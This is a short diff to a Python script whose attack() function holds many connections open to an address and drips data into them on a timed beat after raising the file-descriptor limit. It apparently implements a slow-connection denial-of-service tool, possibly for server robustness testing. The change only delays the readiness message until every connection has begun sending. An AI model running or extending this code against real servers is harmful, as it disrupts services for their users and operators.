@@ -70,6 +70,13 @@ class Member:
         first, *again = STORIES[story]
         self._pieces = itertools.chain([first], itertools.cycle(again))
         self._rest = b""
+        self._is_new = True  # its first piece is not sent yet
+
+    def has_begun(self):
+        """Whether its first piece is sent; True only once."""
+        begins = self._is_new and not self._rest
+        self._is_new = self._is_new and not begins
+        return begins
 
     def goes_on(self):
         """Sends what can be sent now; False: the connection has ended."""
@@ -95,15 +102,18 @@ def attack(address, count, story):
     limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
     resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))
     members = []
-    told = False
+    to_come = count
     while not select.select([sys.stdin], [], [], 0)[0]:
         begin = time.monotonic()
         members += [Member(address, story)
                     for _ in range(count - len(members))]
-        members = [member for member in members if member.goes_on()]
-        if not told:
-            print("here", flush=True)
-            told = True
+        staying = [member for member in members if member.goes_on()]
+        if to_come > 0:
+            to_come -= (len(members) - len(staying)
+                        + sum(member.has_begun() for member in staying))
+            if to_come <= 0:
+                print("here", flush=True)
+        members = staying
         time.sleep(max(0, begin + BEAT_S - time.monotonic()))
 
 
